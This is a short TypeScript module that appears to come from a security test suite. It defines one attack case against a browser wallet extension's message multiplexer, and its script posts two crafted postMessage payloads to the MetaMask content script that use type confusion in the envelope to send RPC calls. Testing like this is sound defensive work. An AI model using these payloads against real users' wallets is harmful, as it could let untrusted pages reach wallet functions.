import type { Attack } from '../Attack.ts';

/** The stream's own envelope as a list with members, which a multiplexer takes for an object. */
export const attack: Attack = {
  entry: 'window.postMessage to the wallet',
  mechanism: 'list as envelope, name as list',
  discovers: false,
  script: `
await kit.ready();
window.postMessage({ target: 'metamask-contentscript', data: Object.assign([], { name: 'metamask-provider', data: kit.rpc(kit.send()) }) }, location.origin);
window.postMessage({ target: 'metamask-contentscript', data: { name: ['metamask-provider'], data: kit.rpc(kit.send()) } }, location.origin);
`,
};
